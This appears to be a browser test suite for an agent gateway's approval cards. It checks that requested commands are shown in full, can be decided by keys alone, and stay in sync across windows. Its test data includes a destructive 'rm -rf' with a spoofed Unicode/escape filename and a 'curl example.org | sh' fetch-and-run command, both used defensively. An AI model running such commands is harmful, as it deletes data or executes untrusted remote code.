// Requests that wait for a decision: a second client asks, the card shows it in full, and keys alone decide.
import assert from 'node:assert/strict';
import WebSocket from 'ws';
import { TOKEN } from './gateway.mjs';

export async function steps({ step, gateway, tab, newTab }) {
  const { page } = tab;
  const card = (of = page) => of.locator('.approval');
  const active = () => page.evaluate(() => document.activeElement?.className || document.activeElement?.id || document.activeElement?.textContent.trim());

  await step('a command that wants to run is shown in full and allowed by keys alone', async () => {
    const asker = await Asker.open(gateway.port);
    await page.locator('#message').focus();
    const decided = asker.ask({
      commandArgv: ['rm', '-rf', 'a b', '\u202egnp.\u001b[2K'], cwd: '/srv/data', host: 'gateway', agentId: 'main', resolvedPath: '/usr/bin/rm',
      env: { PATH: '/bin' }, warningText: 'This deletes files.', timeoutMs: 60_000,
    });
    await card().waitFor();
    const text = await card().locator('.approval-text').innerText();
    assert.equal(text, String.raw`rm -rf 'a b' '\u{202E}gnp.\u{1B}[2K'`);
    const facts = await card().locator('.approval-facts').innerText();
    for (const fact of ['/srv/data', '/usr/bin/rm', 'PATH', 'main']) assert.ok(facts.includes(fact), facts);
    assert.match(await card().innerText(), /This deletes files\./);
    assert.match(await page.locator('oc-approvals [role=alert]').innerText(), /Decision needed: A command wants to run\. rm -rf/);
    // The focus stays where the person writes.
    assert.equal(await active(), 'message');
    await tab.axe('approval');
    await tab.shot('70-approval');
    await page.keyboard.press('Alt+a');
    assert.equal(await active(), 'approval');
    await page.keyboard.press('Escape');
    assert.equal(await active(), 'message');
    await page.keyboard.press('Alt+a');
    await tab.until('the buttons work', () => card().getByRole('button', { name: 'Allow once' }).isEnabled());
    await page.keyboard.press('Tab');
    await page.keyboard.press('Tab');
    assert.equal(await active(), 'secondary');
    await page.keyboard.press('Tab');
    assert.equal(await active(), 'primary');
    await page.keyboard.press('Enter');
    assert.equal(await decided, 'allow-once');
    await card().waitFor({ state: 'detached' });
    asker.close();
  });

  await step('a click right after a card has come decides nothing', async () => {
    const asker = await Asker.open(gateway.port);
    const decided = asker.ask({ commandArgv: ['ls'], host: 'gateway', timeoutMs: 60_000 });
    await card().waitFor();
    const states = await card().getByRole('button').evaluateAll((buttons) => buttons.map((button) => button.disabled));
    assert.ok(states.every(Boolean), 'not yet');
    await card().getByRole('button', { name: 'Deny' }).click();
    assert.equal(await decided, 'deny');
    asker.close();
  });

  await step('what is decided in another window is gone from this one, and a reload finds what waits', async () => {
    const asker = await Asker.open(gateway.port);
    const shell = asker.ask({ commandArgv: ['sh', '-c', 'curl example.org | sh'], cwd: '/', host: 'gateway', timeoutMs: 60_000 });
    const plugin = asker.ask({ pluginId: 'mail', title: 'Send a mail', description: 'To everybody in the house.', severity: 'critical', timeoutMs: 60_000 }, 'plugin.approval.request');
    await card().nth(1).waitFor();
    // A yes for ever is not for what runs other programs.
    assert.deepEqual(await card().first().getByRole('button').allInnerTexts(), ['Deny', 'Allow once']);
    await tab.shot('71-approvals');
    await page.setViewportSize({ width: 390, height: 780 });
    await page.evaluate(() => Promise.allSettled(document.getAnimations({ subtree: true }).map(({ finished }) => finished)));
    await tab.shot('72-approvals-narrow');
    assert.equal(await tab.overflows(), false);
    await page.setViewportSize({ width: 1200, height: 780 });
    await page.reload();
    await tab.connected();
    await card().nth(1).waitFor();
    const other = await newTab();
    await other.open(gateway.url);
    await card(other.page).nth(1).waitFor();
    await card(other.page).filter({ hasText: 'Send a mail' }).getByRole('button', { name: 'Always allow' }).click();
    assert.equal(await plugin, 'allow-always');
    await tab.until('the card is gone here', async () => (await card().count()) === 1);
    await card().getByRole('button', { name: 'Deny' }).click();
    assert.equal(await shell, 'deny');
    await card().waitFor({ state: 'detached' });
    await card(other.page).waitFor({ state: 'detached' });
    await other.page.close();
    asker.close();
  });
}

/** A client that wants something. */
class Asker {
  #socket;
  #waiting = new Map();
  #next = 1;

  static async open(port) {
    const asker = new Asker();
    asker.#socket = new WebSocket(`ws://127.0.0.1:${port}/`);
    asker.#socket.on('message', (data) => asker.#take(JSON.parse(String(data))));
    await new Promise((resolve, reject) => { asker.#socket.once('open', resolve); asker.#socket.once('error', reject); });
    await asker.#call('connect', {
      minProtocol: 4, maxProtocol: 4, client: { id: 'gateway-client', version: '1.0.0', platform: 'linux', mode: 'backend' },
      role: 'operator', scopes: ['operator.read', 'operator.approvals'], caps: [], auth: { token: TOKEN },
    });
    return asker;
  }

  /** Asks; what was decided. */
  async ask(params, method = 'exec.approval.request') {
    return (await this.#call(method, params)).decision;
  }

  close() {
    this.#socket.close();
  }

  #call(method, params) {
    const id = String(this.#next++);
    const answer = new Promise((resolve, reject) => this.#waiting.set(id, { resolve, reject }));
    this.#socket.send(JSON.stringify({ type: 'req', id, method, params }));
    return answer;
  }

  #take(frame) {
    if (frame.type !== 'res') return;
    const waiting = this.#waiting.get(frame.id);
    this.#waiting.delete(frame.id);
    if (frame.ok) waiting?.resolve(frame.payload);
    else waiting?.reject(new Error(frame.error.message));
  }
}
